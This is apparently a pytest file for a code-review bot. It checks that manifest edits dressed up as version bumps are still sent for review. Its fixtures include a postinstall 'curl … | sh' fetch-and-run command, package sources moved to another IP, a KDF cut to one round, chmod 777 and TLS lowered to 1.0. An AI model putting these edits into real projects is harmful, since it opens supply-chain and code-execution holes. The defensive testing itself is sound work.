"""The change's author dresses an edit of a dependency manifest as a version bump: a bump is
tagged `only_versions`, is not sent for review and has no security words
(rules/version_bumps.py), so a number that is code, a host, a path, a script's argument or a
tool's setting must not pass for a version. Each shaped twin keeps the plain edit's review;
a real bump, in every manifest format, is still one."""

from __future__ import annotations

import json

import pytest

from reviewbot.cli import main
from tests.conftest import GitFixture
from tests.rules.conftest import review

SETUP = ('import hashlib\nimport os\nfrom setuptools import setup\n\n\n'
         'def derive(password, salt):\n'
         '    return hashlib.pbkdf2_hmac("sha256", password, salt, 100000)\n\n\n'
         'os.umask(0o022)\nsetup(name="x", version="1.0")\n')


def test_code_in_setup_py_whose_numbers_change_is_reviewed(
        repo: GitFixture, capsys: pytest.CaptureFixture[str]) -> None:
    """setup.py is a program: a key derivation cut to one round and a umask opened to all,
    numbers alone changed, are read by the review and rated as the code they are."""
    repo.write("setup.py", SETUP)
    repo.commit("base")
    repo.write("setup.py", SETUP.replace("100000)", "1)").replace("0o022", "0o000"))
    repo.stage()
    code = main(["--repo", str(repo.root), "--offline", "--format", "json"])
    report = json.loads(capsys.readouterr().out)
    [unit] = report["units"]
    assert code == 0 and "only_versions" not in unit["tags"]
    assert "security_sensitive" in unit["tags"]
    [run_dir] = (repo.root / ".reviewbot" / "runs").glob("2*")
    [item] = json.loads((run_dir / "step5_fused_plan.json").read_text())["plan"]
    assert item["skip_review"] is False


def _versions_only(path: str, old: str, new: str) -> bool:
    [unit] = review(path, new, old).units
    return "only_versions" in unit.tags


MINIFIED = '{"a": "V", ' + ", ".join(f'"p{n}": "1.0.{n}"' for n in range(100)) + "}\n"
SCRIPTS = '{\n  "scripts": {\n    "postinstall": "%s"\n  }\n}\n'


@pytest.mark.parametrize(("path", "old", "new"), [
    # Programs: their numbers are code.
    ("setup.py", "def f(pw, s):\n    return pbkdf2_hmac('sha256', pw, s, 100000)\n",
     "def f(pw, s):\n    return pbkdf2_hmac('sha256', pw, s, 1)\n"),
    ("setup.py", "if admin:\n    grant(1)\n", "if admin:\ngrant(2)\n"),
    ("app/build.gradle", "task x {\n  doLast { exec { commandLine 'sh', '-c', 'sleep 1' } }\n}\n",
     "task x {\n  doLast { exec { commandLine 'sh', '-c', 'sleep 9' } }\n}\n"),
    ("Gemfile", "x = 1 if ENV['A'].to_i > 5\n", "x = 1 if ENV['A'].to_i > 0\n"),
    # A script's arguments.
    ("package.json", SCRIPTS % "node x.js 1.0", SCRIPTS % "node x.js 2.0"),
    ("package.json", SCRIPTS % "curl http://10.0.0.1/x | sh",
     SCRIPTS % "curl http://10.6.6.6/x | sh"),
    ("package.json", SCRIPTS % "jest --coverageThreshold=80",
     SCRIPTS % "jest --coverageThreshold=0"),
    ("composer.json", '{\n  "scripts": {\n    "post-install-cmd": "php x.php 1"\n  }\n}\n',
     '{\n  "scripts": {\n    "post-install-cmd": "php x.php 2"\n  }\n}\n'),
    # Where packages come from: a host, a port, a path.
    ("requirements.txt", "--index-url https://10.0.0.1/simple\nflask==3.0\n",
     "--index-url https://10.6.6.6/simple\nflask==3.0\n"),
    ("requirements.txt", "--extra-index-url http://pypi.corp:8080/simple\n",
     "--extra-index-url http://pypi.corp:8081/simple\n"),
    ("requirements.txt", "-e ./1\n", "-e ./2\n"),
    ("requirements.txt", "lib @ https://10.0.0.1/lib.whl\n", "lib @ https://10.6.6.6/lib.whl\n"),
    ("requirements.txt", "lib @ https://u@10.0.0.1/lib.whl\n",
     "lib @ https://u@10.6.6.6/lib.whl\n"),
    ("go.mod", "module x\n\nreplace a.com/b => ./1\n", "module x\n\nreplace a.com/b => ./2\n"),
    ("go.mod", "module x\n\nreplace a.com/b => 10.0.0.1/b v1.0.0\n",
     "module x\n\nreplace a.com/b => 10.6.6.6/b v1.0.0\n"),
    ("Cargo.toml", '[dependencies]\nfoo = { path = "../1" }\n',
     '[dependencies]\nfoo = { path = "../2" }\n'),
    ("Cargo.toml", '[dependencies]\nfoo = { git = "https://10.0.0.1/foo" }\n',
     '[dependencies]\nfoo = { git = "https://10.6.6.6/foo" }\n'),
    ("Pipfile", '[[source]]\nurl = "https://10.0.0.1/simple"\n',
     '[[source]]\nurl = "https://10.6.6.6/simple"\n'),
    ("pom.xml", "<project>\n  <url>http://10.0.0.1/repo</url>\n</project>\n",
     "<project>\n  <url>http://10.6.6.6/repo</url>\n</project>\n"),
    # A tool's settings.
    ("Cargo.toml", "[profile.release]\noverflow-checks = 1\n",
     "[profile.release]\noverflow-checks = 0\n"),
    ("pyproject.toml", "[tool.pytest.ini_options]\ntimeout = 30\n",
     "[tool.pytest.ini_options]\ntimeout = 0\n"),
    ("setup.cfg", "[tool:pytest]\ntimeout = 30\n", "[tool:pytest]\ntimeout = 0\n"),
    ("pom.xml", "<configuration>\n  <forkCount>1</forkCount>\n</configuration>\n",
     "<configuration>\n  <forkCount>0</forkCount>\n</configuration>\n"),
    ("pom.xml", '<target>\n  <chmod file="run.sh" perm="755"/>\n</target>\n',
     '<target>\n  <chmod file="run.sh" perm="777"/>\n</target>\n'),
    ("package.json", '{\n  "config": {\n    "host": "127.0.0.1"\n  }\n}\n',
     '{\n  "config": {\n    "host": "0.0.0.0"\n  }\n}\n'),
    ("package.json", '{\n  "config": {\n    "proxy": "relay@10.0.0.1"\n  }\n}\n',
     '{\n  "config": {\n    "proxy": "relay@10.6.6.6"\n  }\n}\n'),
    ("pom.xml", "<configuration>\n  <tlsVersion>1.2</tlsVersion>\n</configuration>\n",
     "<configuration>\n  <tlsVersion>1.0</tlsVersion>\n</configuration>\n"),
    ("pom.xml", "<description>\n  Served by v1.0 of the gateway\n</description>\n",
     "<description>\n  Served by v2.0 of the gateway\n</description>\n"),
    ("pyproject.toml", '[tool.app]\ntls_min_version = "1.2"\n',
     '[tool.app]\ntls_min_version = "1.0"\n'),
    # A line moved elsewhere (a test's dependency made the program's), or indented into
    # another list.
    ("Cargo.toml", '[dependencies]\nserde = "1.0"\n\n[dev-dependencies]\nmock = "0.1.0"\n',
     '[dependencies]\nserde = "1.0"\nmock = "0.1.1"\n\n[dev-dependencies]\n'),
    ("environment.yml", "dependencies:\n  - pip:\n    - flask==3.0\n",
     "dependencies:\n  - pip:\n  - flask==3.1\n"),
    # A minified manifest: a line of thousands of characters is not read token by token.
    ("package.json", MINIFIED.replace("V", "1.0.0"), MINIFIED.replace("V", "1.0.1")),
])
def test_what_is_dressed_as_a_bump_is_not_one(path: str, old: str, new: str) -> None:
    assert not _versions_only(path, old, new)


@pytest.mark.parametrize(("path", "old", "new"), [
    ("pom.xml", "<project>\n  <version>1.0.0</version>\n  <spring.version>6.0.0</spring.version>\n"
                "</project>\n",
     "<project>\n  <version>1.0.1</version>\n  <spring.version>6.1.2</spring.version>\n"
     "</project>\n"),
    ("Cargo.toml", '[dependencies]\nserde = "1.0.190"\ntokio = { version = "1.32" }\n',
     '[dependencies]\nserde = "1.0.197"\ntokio = { version = "1.36" }\n'),
    ("Pipfile", '[packages]\nflask = "==3.0.0"\n\n[requires]\npython_version = "3.11"\n',
     '[packages]\nflask = "==3.0.3"\n\n[requires]\npython_version = "3.12"\n'),
    ("composer.json", '{\n  "require": {\n    "php": ">=8.1",\n    "a/b": "2.9.*"\n  }\n}\n',
     '{\n  "require": {\n    "php": ">=8.2",\n    "a/b": "3.5.*"\n  }\n}\n'),
    ("go.mod", "module x\n\ngo 1.21\n\nrequire (\n\tgithub.com/a/b v1.2.3 // indirect\n)\n",
     "module x\n\ngo 1.22\n\nrequire (\n\tgithub.com/a/b v1.3.0 // indirect\n)\n"),
    ("package.json", '{\n  "packageManager": "pnpm@8.6.0",\n  "x": "16.x || 17.x"\n}\n',
     '{\n  "packageManager": "pnpm@9.1.0",\n  "x": "17.x || 18.x"\n}\n'),
    ("requirements.txt", 'Django>=4.2,<5.0 ; python_version >= "3.8"\n'
                         "pkg @ git+https://github.com/o/r@v1.0.0#egg=pkg\n",
     'Django>=4.2.7,<5.1 ; python_version >= "3.9"\n'
     "pkg @ git+https://github.com/o/r@v1.1.0#egg=pkg\n"),
    ("setup.cfg", "[metadata]\nversion = 1.0.0\n\n[options]\npython_requires = >=3.8\n",
     "[metadata]\nversion = 1.0.1\n\n[options]\npython_requires = >=3.9\n"),
    ("environment.yml", "dependencies:\n  - numpy=1.24\n  - pip:\n    - flask==3.0\n",
     "dependencies:\n  - numpy=1.26\n  - pip:\n    - flask==3.1\n"),
])
def test_a_bump_in_every_manifest_format_is_still_one(path: str, old: str, new: str) -> None:
    assert _versions_only(path, old, new)
